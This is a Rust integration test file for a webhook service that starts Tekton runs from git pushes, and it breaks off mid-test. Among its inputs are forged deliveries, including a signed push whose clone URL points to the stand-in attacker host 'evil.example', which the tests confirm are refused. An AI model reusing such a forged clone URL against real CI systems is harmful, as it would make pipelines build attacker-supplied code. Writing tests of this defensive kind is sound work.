//! git-push end to end over raw webhooks: signed corpus payloads through the real router (and the
//! common server scaffolding where the body limit or `/metrics` matter), the real `kube::Client`,
//! and the test API server, which validates the runs against the Tekton CRD schemas.

#![allow(clippy::unwrap_used)] // tests may unwrap; a failure is the point

use std::collections::BTreeMap;
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::http::{HeaderMap, Request, StatusCode};
use http_body_util::{BodyExt, Full, Limited};
use serde_json::{Value, json};
use tekflux_common::clients::kube_client_from_config;
use tekflux_common::cloudevent::ReplySink;
use tekflux_common::config::{Config, Env, KubernetesSettings, ServerSettings};
use tekflux_common::server::{self, ServerState};
use tekflux_git_push::{AppState, Provider, app, render};
use tekflux_testkit::kube_api::{Fault, TestApiServer};
use tower::ServiceExt;

mod support;
use support::{Delivery, GITLAB_WEBHOOK_TOKEN as GITLAB_TOKEN, SECRET, corpus};

// ---------------------------------------------------------------------------------------------
// fixtures

const TEKTON: &str = "tekton.dev";

/// Rules for the repositories of the payloads used below, one per provider.
const CONFIG: &str = r#"
namespace: ci
providers:
  github: { secret: "env:GITHUB_SECRET" }
  gitlab: { token: "env:GITLAB_TOKEN" }
  gitea: { secret: "env:GITEA_SECRET" }
  forgejo: { secret: "env:FORGEJO_SECRET" }
  bitbucket: { secret: "env:BITBUCKET_SECRET" }
repositories:
  - name: payloads
    url: https://github.com/danheberden/payloads.git
    branches: [master]
    pipeline: build
    params:
      revision: "{{ sha }}"
      git-ref: "{{ ref }}"
      repo: "{{ repo_url }}"
      delivery: "{{ delivery }}"
    workspaces:
      source: { claim: shared-workspace, archive: true }
  - name: payloads-release
    url: https://github.com/danheberden/payloads
    tags: ["v*"]
    pipeline: release
  - name: diaspora
    url: git@example.com:mike/diaspora.git
    provider: gitlab
    branches: [master]
    task: unit-tests
    namespace: gitlab-ci
    params:
      revision: "{{ sha }}"
  - name: gitea-webhooks
    url: http://localhost:3000/gitea/webhooks
    provider: gitea
    branches: [develop]
    pipeline: build
    params:
      branch: "{{ branch }}"
  - name: deploy-tools
    url: https://forge.example/infra/deploy-tools
    provider: forgejo
    branches: [main]
    pipeline: deploy
    params:
      revision: "{{ sha }}"
  - name: shop-api
    url: https://bitbucket.org/acme-team/shop-api
    branches: [main]
    tags: ["v*"]
    pipeline: ship
    params:
      version: "{{ ref_name }}"
      revision: "{{ sha }}"
"#;

fn env() -> Env {
    Env::new()
        .with("GITHUB_SECRET", SECRET)
        .with("GITLAB_TOKEN", GITLAB_TOKEN)
        .with("GITEA_SECRET", SECRET)
        .with("FORGEJO_SECRET", SECRET)
        .with("BITBUCKET_SECRET", SECRET)
}

fn config(yaml: &str) -> Config {
    match Config::from_yaml(yaml, "test.yaml", &env()) {
        Ok(config) => config,
        Err(error) => panic!("test config: {error} {:?}", error.problems()),
    }
}

/// The test API server and the app wrapped in the common server router.
struct Harness {
    api: TestApiServer,
    app: Router,
}

impl Harness {
    async fn new(yaml: &str) -> Self {
        Self::with(yaml, 5, 1024 * 1024).await
    }

    /// With a Kubernetes client timeout of `timeout_seconds` and a body limit of `body_limit`.
    async fn with(yaml: &str, timeout_seconds: u64, body_limit: usize) -> Self {
        Self::on(
            TestApiServer::start().await,
            yaml,
            timeout_seconds,
            body_limit,
        )
    }

    fn on(api: TestApiServer, yaml: &str, timeout_seconds: u64, body_limit: usize) -> Self {
        // As `main` builds it: timeouts, and no retrying of 429/503 inside the client.
        let client =
            kube_client_from_config(api.config(), &KubernetesSettings { timeout_seconds }).unwrap();
        let server = ServerState::new(ServerSettings {
            body_limit,
            ..ServerSettings::default()
        });
        let state = AppState::new(
            config(yaml),
            Some(client),
            ReplySink::new(None).unwrap(),
            &server.metrics,
        )
        .unwrap();
        let app = server::router(app(state), server);
        Harness { api, app }
    }

    async fn send(&self, request: Request<Body>) -> Answer {
        send(&self.app, request).await
    }

    fn runs(&self, plural: &str) -> Vec<Value> {
        self.api.objects(TEKTON, plural, None)
    }

    fn pipeline_runs(&self) -> Vec<Value> {
        self.runs("pipelineruns")
    }

    fn all_runs(&self) -> Vec<Value> {
        let mut runs = self.pipeline_runs();
        runs.extend(self.runs("taskruns"));
        runs
    }
}

#[derive(Debug, Clone, PartialEq)]
struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    body: Value,
}

async fn send(app: &Router, request: Request<Body>) -> Answer {
    let response = app.clone().oneshot(request).await.unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    let body = serde_json::from_slice(&bytes)
        .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()));
    Answer {
        status,
        headers,
        body,
    }
}

fn params(run: &Value) -> BTreeMap<String, String> {
    run["spec"]["params"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|p| {
            (
                p["name"].as_str().unwrap().to_owned(),
                p["value"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn strings(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

fn map_of(value: &Value) -> BTreeMap<String, String> {
    serde_json::from_value(value.clone()).unwrap_or_default()
}

/// Asserts that the run's name is `<rule>-<12 hex>`.
#[track_caller]
fn assert_run_name(name: &str, rule: &str) {
    let hash = name
        .strip_prefix(rule)
        .and_then(|rest| rest.strip_prefix('-'))
        .unwrap_or_else(|| panic!("run name {name:?} does not start with {rule:?}-"));
    assert_eq!(hash.len(), 12, "{name}");
    assert!(hash.bytes().all(|b| b.is_ascii_hexdigit()), "{name}");
}

/// The one run of `plural` the API server holds, checked against the summary's one run.
#[track_caller]
fn only_run(harness: &Harness, plural: &str, answer: &Answer) -> Value {
    let runs = harness.runs(plural);
    assert_eq!(runs.len(), 1, "{runs:#?}");
    let run = runs.into_iter().next().unwrap();
    let listed = answer.body["runs"].as_array().unwrap();
    assert_eq!(listed.len(), 1, "{}", answer.body);
    assert_eq!(listed[0]["name"], run["metadata"]["name"]);
    assert_eq!(listed[0]["namespace"], run["metadata"]["namespace"]);
    assert_eq!(listed[0]["kind"], run["kind"]);
    run
}

// ---------------------------------------------------------------------------------------------
// every provider: a signed push creates exactly the expected run

#[tokio::test]
async fn github_push_creates_the_pipeline_run() {
    let harness = Harness::new(CONFIG).await;
    let answer = harness
        .send(Delivery::github_push().signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);

    let run = only_run(&harness, "pipelineruns", &answer);
    let name = run["metadata"]["name"].as_str().unwrap().to_owned();
    assert_run_name(&name, "payloads");
    assert_eq!(run["apiVersion"], "tekton.dev/v1");
    assert_eq!(run["kind"], "PipelineRun");
    assert_eq!(run["metadata"]["namespace"], "ci");
    assert_eq!(run["spec"]["pipelineRef"], json!({"name": "build"}));
    let sha = "263c5253cc1578ed49892d0db8876da4ec26da84";
    assert_eq!(
        params(&run),
        strings(&[
            ("revision", sha),
            ("git-ref", "refs/heads/master"),
            ("repo", "https://github.com/danheberden/payloads"),
            ("delivery", "72d3162e-cc78-11e3-81ab-4c9367dc0958"),
        ])
    );
    assert_eq!(
        run["spec"]["workspaces"],
        json!([{
            "name": "source",
            "persistentVolumeClaim": {"claimName": "shared-workspace"},
            "subPath": name,
        }])
    );
    assert_eq!(
        map_of(&run["metadata"]["labels"]),
        strings(&[
            ("app.kubernetes.io/managed-by", "tekflux"),
            ("tekflux.dev/rule", "payloads"),
            ("tekflux.dev/provider", "github"),
            ("tekflux.dev/repo", "danheberden-payloads"),
            ("tekflux.dev/ref-kind", "branch"),
            ("tekflux.dev/branch", "master"),
            ("tekflux.dev/sha", sha),
        ])
    );
    let annotations = map_of(&run["metadata"]["annotations"]);
    for (key, value) in [
        (
            "tekflux.dev/delivery-id",
            "72d3162e-cc78-11e3-81ab-4c9367dc0958",
        ),
        (
            "tekflux.dev/repo-url",
            "https://github.com/danheberden/payloads",
        ),
        ("tekflux.dev/ref", "refs/heads/master"),
        ("tekflux.dev/sha", sha),
    ] {
        assert_eq!(
            annotations.get(key).map(String::as_str),
            Some(value),
            "{key}"
        );
    }
    let archived: Value =
        serde_json::from_str(&annotations["tekflux.dev/archive-workspaces"]).unwrap();
    assert_eq!(
        archived,
        json!([{"workspace": "source", "claim": "shared-workspace", "subPath": name}])
    );

    // The summary: the push, the run, and the other rule of the repository with its reason.
    let body = &answer.body;
    assert_eq!(body["dryRun"], false);
    assert_eq!(
        body["pushes"],
        json!([{
            "repository": "https://github.com/danheberden/payloads",
            "ref": "refs/heads/master",
            "sha": sha,
            "delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958",
            "pathsComplete": true,
        }])
    );
    assert_eq!(body["runs"][0]["rule"], "payloads");
    assert_eq!(body["runs"][0]["target"], "build");
    assert!(body["runs"][0].get("object").is_none(), "{body}");
    let ignored = body["ignored"].as_array().unwrap();
    assert_eq!(ignored.len(), 1, "{body}");
    assert_eq!(ignored[0]["rule"], "payloads-release");
    assert!(!ignored[0]["reason"].as_str().unwrap().is_empty());
    assert_eq!(body["otherRepositoryRules"], 4);
}

#[tokio::test]
async fn gitlab_push_creates_the_task_run() {
    let harness = Harness::new(CONFIG).await;
    let answer = harness
        .send(Delivery::gitlab_push().signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let run = only_run(&harness, "taskruns", &answer);
    assert!(harness.pipeline_runs().is_empty());
    assert_run_name(run["metadata"]["name"].as_str().unwrap(), "diaspora");
    assert_eq!(run["kind"], "TaskRun");
    assert_eq!(run["metadata"]["namespace"], "gitlab-ci");
    assert_eq!(run["spec"]["taskRef"], json!({"name": "unit-tests"}));
    let sha = "da1560886d4f094c3e6c9ef40349f7d38b5d27d7";
    assert_eq!(params(&run), strings(&[("revision", sha)]));
    let labels = map_of(&run["metadata"]["labels"]);
    assert_eq!(labels["tekflux.dev/provider"], "gitlab");
    assert_eq!(labels["tekflux.dev/repo"], "mike-diaspora");
    assert_eq!(labels["tekflux.dev/sha"], sha);
    let annotations = map_of(&run["metadata"]["annotations"]);
    // Idempotency-Key is preferred: it stays the same across GitLab's retries.
    assert_eq!(
        annotations["tekflux.dev/delivery-id"],
        "f5e5f430-f57b-4e6e-9fac-d9128cd7232f"
    );
    assert_eq!(
        annotations["tekflux.dev/repo-url"],
        "https://example.com/mike/diaspora"
    );
}

#[tokio::test]
async fn gitea_push_creates_the_pipeline_run() {
    let harness = Harness::new(CONFIG).await;
    let answer = harness
        .send(Delivery::gitea_push().signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let run = only_run(&harness, "pipelineruns", &answer);
    assert_run_name(run["metadata"]["name"].as_str().unwrap(), "gitea-webhooks");
    assert_eq!(run["metadata"]["namespace"], "ci");
    assert_eq!(params(&run), strings(&[("branch", "develop")]));
    let labels = map_of(&run["metadata"]["labels"]);
    assert_eq!(labels["tekflux.dev/provider"], "gitea");
    assert_eq!(labels["tekflux.dev/branch"], "develop");
    assert_eq!(
        labels["tekflux.dev/sha"],
        "bffeb74224043ba2feb48d137756c8a9331c449a"
    );
    assert_eq!(
        map_of(&run["metadata"]["annotations"])["tekflux.dev/delivery-id"],
        "f6266f16-1bf3-46a5-9ea4-602e06ead473"
    );
}

#[tokio::test]
async fn forgejo_push_creates_the_pipeline_run() {
    let harness = Harness::new(CONFIG).await;
    let answer = harness
        .send(Delivery::forgejo_push().signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let run = only_run(&harness, "pipelineruns", &answer);
    assert_run_name(run["metadata"]["name"].as_str().unwrap(), "deploy-tools");
    assert_eq!(run["spec"]["pipelineRef"], json!({"name": "deploy"}));
    let sha = "5c6a5a7a0b1b21fb1c0993e508e34566640f113b";
    assert_eq!(params(&run), strings(&[("revision", sha)]));
    let labels = map_of(&run["metadata"]["labels"]);
    assert_eq!(labels["tekflux.dev/provider"], "forgejo");
    assert_eq!(labels["tekflux.dev/repo"], "infra-deploy-tools");
}

#[tokio::test]
async fn bitbucket_push_creates_one_run_per_matching_change() {
    let harness = Harness::new(CONFIG).await;
    let answer = harness
        .send(Delivery::bitbucket_push().signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);

    // Three changes: branch main and tag v2.4.0 match; the deleted branch is ignored.
    let runs = harness.pipeline_runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    let by_version: BTreeMap<String, Value> = runs
        .into_iter()
        .map(|run| (params(&run)["version"].clone(), run))
        .collect();
    assert_eq!(
        by_version.keys().collect::<Vec<_>>(),
        vec!["main", "v2.4.0"]
    );
    let main = &by_version["main"];
    let tag = &by_version["v2.4.0"];
    assert_eq!(
        params(main)["revision"],
        "a1cfb1dc8b7063e989314742c2cad9538d9b1200"
    );
    assert_eq!(
        params(tag)["revision"],
        "5e9b60f69165f32f8930843ca718e10fdee30c52"
    );
    assert_eq!(main["metadata"]["labels"]["tekflux.dev/branch"], "main");
    assert_eq!(tag["metadata"]["labels"]["tekflux.dev/tag"], "v2.4.0");
    assert_ne!(main["metadata"]["name"], tag["metadata"]["name"]);
    for run in [main, tag] {
        assert_run_name(run["metadata"]["name"].as_str().unwrap(), "shop-api");
        assert_eq!(
            run["metadata"]["annotations"]["tekflux.dev/delivery-id"],
            "a9f3c2e1-6b7d-4c5e-8f90-1a2b3c4d5e6f"
        );
    }

    let body = &answer.body;
    assert_eq!(body["pushes"].as_array().unwrap().len(), 3, "{body}");
    let listed: Vec<&str> = body["runs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(listed.len(), 2);
    assert!(listed.contains(&main["metadata"]["name"].as_str().unwrap()));
    assert!(listed.contains(&tag["metadata"]["name"].as_str().unwrap()));
    let ignored = body["ignored"].as_array().unwrap();
    assert_eq!(ignored.len(), 1, "{body}");
    assert_eq!(ignored[0]["ref"], "refs/heads/feature/old-checkout");
    assert!(
        ignored[0]["reason"].as_str().unwrap().contains("deleted"),
        "{body}"
    );
}

// ---------------------------------------------------------------------------------------------
// signatures

fn all_pushes() -> Vec<Delivery> {
    vec![
        Delivery::github_push(),
        Delivery::gitlab_push(),
        Delivery::gitea_push(),
        Delivery::forgejo_push(),
        Delivery::bitbucket_push(),
    ]
}

#[track_caller]
fn assert_unauthorized(harness: &Harness, answer: &Answer, what: &str) {
    assert_eq!(
        answer.status,
        StatusCode::UNAUTHORIZED,
        "{what}: {}",
        answer.body
    );
    assert_eq!(answer.body["error"], "unauthorized", "{what}");
    let text = answer.body.to_string();
    assert!(
        !text.contains(SECRET) && !text.contains(GITLAB_TOKEN),
        "{text}"
    );
    // Refused before anything reached the cluster.
    assert!(harness.api.requests().is_empty(), "{what}");
    assert!(harness.all_runs().is_empty(), "{what}");
}

/// The line that logs a request's outcome names the provider (on the request's span), so a
/// refused delivery can be traced to who sent it.
#[tokio::test]
async fn a_refused_webhook_is_logged_with_its_provider() {
    let (logs, _guard) = tekflux_testkit::git_status::CapturedLogs::start();
    let harness = Harness::new(CONFIG).await;
    let wrong = Delivery::gitea_push().signed_with("not the secret");
    let answer = harness.send(wrong.request()).await;
    assert_unauthorized(&harness, &answer, "gitea");
    let text = logs.text();
    let line = text
        .lines()
        .find(|line| line.contains("request rejected"))
        .unwrap_or_else(|| panic!("no outcome line:\n{text}"));
    let line: Value = serde_json::from_str(line).unwrap();
    assert_eq!(line["span"]["provider"], "gitea", "{line}");
}

#[tokio::test]
async fn wrong_or_missing_signatures_are_401_and_reach_no_cluster() {
    let harness = Harness::new(CONFIG).await;
    for delivery in all_pushes() {
        let provider = delivery.provider.as_str();
        let wrong = delivery.clone().signed_with("not the secret");
        assert_unauthorized(
            &harness,
            &harness.send(wrong.request()).await,
            &format!("{provider} wrong"),
        );
        assert_unauthorized(
            &harness,
            &harness.send(delivery.request()).await,
            &format!("{provider} missing"),
        );
        // Signed, then the body changed in transit.
        let mut tampered = delivery.clone().signed();
        tampered.body.extend_from_slice(b" ");
        if delivery.provider != Provider::Gitlab {
            assert_unauthorized(
                &harness,
                &harness.send(tampered.request()).await,
                &format!("{provider} tampered"),
            );
        }
    }
}

#[tokio::test]
async fn providers_without_a_secret_refuse_everything() {
    let yaml = CONFIG
        .lines()
        .filter(|line| !line.contains("env:"))
        .collect::<Vec<_>>()
        .join("\n")
        .replace("providers:\n", "");
    let harness = Harness::new(&yaml).await;
    for delivery in all_pushes() {
        let provider = delivery.provider.as_str();
        let answer = harness.send(delivery.signed().request()).await;
        assert_unauthorized(&harness, &answer, provider);
        assert!(
            answer.body["message"]
                .as_str()
                .unwrap()
                .contains("no secret configured"),
            "{}",
            answer.body
        );
    }
}

#[tokio::test]
async fn insecure_providers_accept_unsigned_webhooks() {
    let yaml = CONFIG.replace(
        "github: { secret: \"env:GITHUB_SECRET\" }",
        "github: { insecure: true }",
    );
    let harness = Harness::new(&yaml).await;
    let answer = harness.send(Delivery::github_push().request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    only_run(&harness, "pipelineruns", &answer);
    // Only GitHub is insecure.
    let answer = harness.send(Delivery::gitea_push().request()).await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
}

// ---------------------------------------------------------------------------------------------
// rules bound to their provider and host

/// The value of one series of the app's `/metrics` (0 when absent).
async fn metric(app: &Router, name: &str, labels: &[(&str, &str)]) -> f64 {
    let response = app
        .clone()
        .oneshot(Request::get("/metrics").body(Body::empty()).unwrap())
        .await
        .unwrap();
    let text = response.into_body().collect().await.unwrap().to_bytes();
    scrape(std::str::from_utf8(&text).unwrap())
        .get(&(name.to_owned(), strings(labels)))
        .copied()
        .unwrap_or(0.0)
}

/// `tekflux_git_push_ignored_total{reason}`.
async fn ignored_total(app: &Router, reason: &str) -> f64 {
    metric(app, "tekflux_git_push_ignored_total", &[("reason", reason)]).await
}

/// Only GitLab is configured. The github.com rule names no provider and is bound to github by
/// its host, not to the one configured provider; the self-hosted rule is bound to gitlab, the
/// one configured provider.
const ONLY_GITLAB: &str = r#"
namespace: ci
providers:
  gitlab: { token: "env:GITLAB_TOKEN" }
repositories:
  - name: payloads
    url: https://github.com/danheberden/payloads
    pipeline: build
  - name: diaspora
    url: git@example.com:mike/diaspora.git
    task: unit-tests
"#;

#[tokio::test]
async fn a_gitlab_signed_push_claiming_a_github_repository_starts_nothing() {
    let harness = Harness::new(ONLY_GITLAB).await;
    // A genuine GitLab push (right token), whose payload names the github.com repository.
    let claimed = String::from_utf8(corpus("gitlab/push.go-gitlab.json"))
        .unwrap()
        .replace(
            "example.com/mike/diaspora",
            "github.com/danheberden/payloads",
        )
        .replace(
            "example.com:mike/diaspora",
            "github.com:danheberden/payloads",
        );
    let mut forged = Delivery::gitlab_push();
    forged.body = claimed.into_bytes();
    let answer = harness.send(forged.signed().request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["runs"], json!([]));
    assert_eq!(
        answer.body["ignored"],
        json!([{
            "rule": "payloads",
            "ref": "refs/heads/master",
            "reason": "rule is bound to provider github, push came from gitlab",
        }])
    );
    assert!(harness.api.requests().is_empty());
    assert!(harness.all_runs().is_empty());
    assert_eq!(ignored_total(&harness.app, "provider_mismatch").await, 1.0);

    // The same token and payload for the self-hosted repository: that rule is GitLab's.
    let answer = harness
        .send(
            Delivery::gitlab_push()
                .redelivered_as("d-2")
                .signed()
                .request(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    only_run(&harness, "taskruns", &answer);
    assert_eq!(ignored_total(&harness.app, "provider_mismatch").await, 1.0);
}

/// A GitHub push naming the Gitea repository of the `gitea-webhooks` rule.
fn github_push_claiming(repo: &str, clone: &str, git_ref: &str) -> Delivery {
    let mut body: Value =
        serde_json::from_slice(&corpus("github/push-3-commits.gith-2012.json")).unwrap();
    body["ref"] = json!(git_ref);
    body["repository"]["url"] = json!(repo);
    body["repository"]["html_url"] = json!(repo);
    body["repository"]["clone_url"] = json!(clone);
    Delivery::github("push", "d-claim", serde_json::to_vec(&body).unwrap())
}

#[tokio::test]
async fn a_rule_bound_to_gitea_is_not_started_by_an_insecure_github() {
    let yaml = CONFIG.replace(
        "github: { secret: \"env:GITHUB_SECRET\" }",
        "github: { insecure: true }",
    );
    let harness = Harness::new(&yaml).await;
    // Over a real socket: anyone who can reach the Service can send an unsigned GitHub push.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = harness.app.clone();
    let serving = tokio::spawn(async move { axum::serve(listener, app).await });

    let unsigned = github_push_claiming(
        "http://localhost:3000/gitea/webhooks",
        "http://localhost:3000/gitea/webhooks.git",
        "refs/heads/develop",
    );
    let (status, body) = post_over_tcp(addr, unsigned.request()).await;
    serving.abort();
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["runs"], json!([]));
    assert_eq!(
        body["ignored"],
        json!([{
            "rule": "gitea-webhooks",
            "ref": "refs/heads/develop",
            "reason": "rule is bound to provider gitea, push came from github",
        }])
    );
    assert!(harness.api.requests().is_empty());
    assert_eq!(ignored_total(&harness.app, "provider_mismatch").await, 1.0);

    // The Gitea push itself, signed with Gitea's secret, still starts it.
    let answer = harness
        .send(Delivery::gitea_push().signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    only_run(&harness, "pipelineruns", &answer);
}

#[tokio::test]
async fn a_push_whose_clone_url_is_on_another_host_starts_nothing() {
    let harness = Harness::new(CONFIG).await;
    // Signed with the right secret, the right repository, code from elsewhere.
    let delivery = github_push_claiming(
        "https://github.com/danheberden/payloads",
        "https://evil.example/danheberden/payloads.git",
        "refs/heads/master",
    )
    .signed();
    let answer = harness.send(delivery.request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["runs"], json!([]));
    let reasons: Vec<&str> = answer.body["ignored"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["reason"].as_str().unwrap())
        .collect();
    assert_eq!(
        reasons,
        ["clone URL host evil.example is not the rule's host github.com"; 2]
    );
    assert!(harness.api.requests().is_empty());
    // Both rules of the repository.
    assert_eq!(
        ignored_total(&harness.app, "clone_host_mismatch").await,
        2.0
    );
    assert_eq!(ignored_total(&harness.app, "rule_not_matched").await, 0.0);
}

// ---------------------------------------------------------------------------------------------
// auto-detection

#[tokio::test]
async fn webhooks_without_a_provider_in_the_path_are_detected_by_their_headers() {
    let harness = Harness::new(CONFIG).await;
    for (delivery, rule) in all_pushes().into_iter().zip([
        "payloads",
        "diaspora",
        "gitea-webhooks",
        "deploy-tools",
        "shop-api",
    ]) {
        let provider = delivery.provider;
        let answer = harness.send(delivery.signed().to("/webhooks")).await;
        assert_eq!(
            answer.status,
            StatusCode::OK,
            "{provider:?}: {}",
            answer.body
        );
        assert_eq!(answer.body["runs"][0]["rule"], rule, "{provider:?}");
    }
    // Forgejo also sends Gitea's and GitHub's headers; it must still be told apart.
    let forgejo: Vec<Value> = harness
        .all_runs()
        .into_iter()
        .filter(|r| r["metadata"]["labels"]["tekflux.dev/rule"] == "deploy-tools")
        .collect();
    assert_eq!(forgejo.len(), 1);
    assert_eq!(
        forgejo[0]["metadata"]["labels"]["tekflux.dev/provider"],
        "forgejo"
    );
    let gitea: Vec<Value> = harness
        .all_runs()
        .into_iter()
        .filter(|r| r["metadata"]["labels"]["tekflux.dev/rule"] == "gitea-webhooks")
        .collect();
    assert_eq!(
        gitea[0]["metadata"]["labels"]["tekflux.dev/provider"],
        "gitea"
    );
}

#[tokio::test]
async fn unknown_providers_are_400() {
    let harness = Harness::new(CONFIG).await;
    let mut delivery = Delivery::new(
        Provider::Github,
        &[("X-Some-Event", "push"), ("X-Delivery", "1")],
        corpus("github/push-3-commits.gith-2012.json"),
    );
    delivery = delivery.signed();
    let answer = harness.send(delivery.to("/webhooks")).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
    assert_eq!(answer.body["error"], "bad_request");
    assert!(
        answer.body["message"]
            .as_str()
            .unwrap()
            .contains("X-GitHub-Event")
    );
    let answer = harness
        .send(Delivery::github_push().signed().to("/webhooks/svn"))
        .await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
    // Refused before a byte of the body is read: one that fails when read (as past a limit)
    // changes nothing.
    let unreadable = |request: Request<Body>| {
        let (parts, _) = request.into_parts();
        let body = Limited::new(Full::new(Bytes::from_static(b"{}")), 0);
        Request::from_parts(parts, Body::new(body))
    };
    for request in [
        delivery.to("/webhooks"),
        Delivery::github_push().signed().to("/webhooks/svn"),
    ] {
        let answer = harness.send(unreadable(request)).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
    }
    assert!(harness.api.requests().is_empty());
}

// ---------------------------------------------------------------------------------------------
// duplicate deliveries

#[tokio::test]
async fn a_redelivery_is_answered_like_the_first_and_creates_nothing() {
    let harness = Harness::new(CONFIG).await;
    for delivery in all_pushes() {
        let delivery = delivery.signed();
        let first = harness.send(delivery.request()).await;
        let before = harness.all_runs();
        let second = harness.send(delivery.request()).await;
        assert_eq!(first.status, StatusCode::OK, "{}", first.body);
        assert_eq!(second.status, first.status);
        assert_eq!(second.body, first.body);
        assert_eq!(harness.all_runs(), before, "{:?}", delivery.provider);
    }
    // One run per matching ref: GitHub, GitLab, Gitea, Forgejo, and Bitbucket's two.
    assert_eq!(harness.all_runs().len(), 6);
    // Another delivery of the same payload (a manual "redeliver" in GitHub gets a new id, as does
    // a second push of the same commit) is not a duplicate.
    let first = harness
        .send(Delivery::github_push().signed().request())
        .await;
    let other = harness
        .send(
            Delivery::github_push()
                .redelivered_as("0d8c3a55-1f0e-4b8e-9a55-3c2f1e0d9b77")
                .signed()
                .request(),
        )
        .await;
    assert_eq!(other.status, StatusCode::OK, "{}", other.body);
    assert_ne!(other.body["runs"][0]["name"], first.body["runs"][0]["name"]);
    assert_eq!(harness.all_runs().len(), 7);
}

#[tokio::test]
async fn twenty_concurrent_copies_of_a_delivery_create_one_run() {
    let harness = Harness::new(CONFIG).await;
    // Over a real socket, as a provider's retries would arrive.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = harness.app.clone();
    let serving = tokio::spawn(async move { axum::serve(listener, app).await });

    let delivery = Delivery::github_push().signed();
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..20 {
        let delivery = delivery.clone();
        tasks.spawn(async move { post_over_tcp(addr, delivery.request()).await });
    }
    let mut answers = Vec::new();
    while let Some(answer) = tasks.join_next().await {
        answers.push(answer.unwrap());
    }
    serving.abort();

    assert_eq!(answers.len(), 20);
    for answer in &answers {
        assert_eq!(answer.0, StatusCode::OK, "{}", answer.1);
        assert_eq!(answer.1, answers[0].1);
    }
    assert_eq!(harness.pipeline_runs().len(), 1);
    assert_eq!(
        answers[0].1["runs"][0]["name"],
        harness.pipeline_runs()[0]["metadata"]["name"]
    );
}

/// POSTs `request` on a fresh HTTP/1 connection to `addr`.
async fn post_over_tcp(addr: std::net::SocketAddr, request: Request<Body>) -> (StatusCode, Value) {
    let (status, _, body) = tekflux_testkit::answer::over_tcp(addr, request).await;
    (status, body)
}

// ---------------------------------------------------------------------------------------------
// bad input

#[tokio::test]
async fn oversized_bodies_are_413_before_anything_is_read() {
    let harness = Harness::with(CONFIG, 5, 1024).await;
    let delivery = Delivery::github_push().signed();
    assert!(delivery.body.len() > 1024);
    let mut declared = delivery.request();
    declared
        .headers_mut()
        .insert("content-length", delivery.body.len().into());
    let answer = harness.send(declared).await;
    assert_eq!(
        answer.status,
        StatusCode::PAYLOAD_TOO_LARGE,
        "{}",
        answer.body
    );
    assert_eq!(answer.body["error"], "payload_too_large");
    // Also when the length is not declared (as with a chunked body).
    let answer = harness.send(delivery.request()).await;
    assert_eq!(
        answer.status,
        StatusCode::PAYLOAD_TOO_LARGE,
        "{}",
        answer.body
    );
    assert!(harness.api.requests().is_empty());
}

#[tokio::test]
async fn each_provider_s_webhooks_are_held_to_what_it_sends_at_most() {
    // Bitbucket Cloud sends at most 256 KB: 2 MiB in its name is refused unread, on the named
    // route and on the detecting one, while GitHub (25 MB) may send as much.
    let harness = Harness::with(CONFIG, 5, 25 << 20).await;
    let padded = |mut delivery: Delivery| {
        delivery.body = vec![b' '; 2 << 20];
        delivery
    };
    for uri in ["/webhooks/bitbucket", "/webhooks"] {
        let mut request = padded(Delivery::bitbucket_push()).signed().to(uri);
        request
            .headers_mut()
            .insert("content-length", (2u64 << 20).into());
        let answer = harness.send(request).await;
        assert_eq!(answer.status, StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
        assert!(
            answer.body["message"].as_str().unwrap().contains("1048576"),
            "{}",
            answer.body
        );
        // Chunked: cut at the limit while it is read.
        let answer = harness
            .send(padded(Delivery::bitbucket_push()).signed().to(uri))
            .await;
        assert_eq!(answer.status, StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
    }
    let answer = harness
        .send(padded(Delivery::github_push()).signed().request())
        .await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
    assert!(harness.api.requests().is_empty());
}

#[tokio::test]
async fn form_encoded_webhooks_are_read_and_other_media_types_refused_with_the_fix() {
    // GitHub's and Gitea's "application/x-www-form-urlencoded" content type: the JSON in the
    // `payload` field, the signature over the form as sent.
    let harness = Harness::new(CONFIG).await;
    for json in [Delivery::github_push(), Delivery::gitea_push()] {
        let form: String = url::form_urlencoded::Serializer::new(String::new())
            .append_pair("payload", std::str::from_utf8(&json.body).unwrap())
            .finish();
        let mut delivery = json;
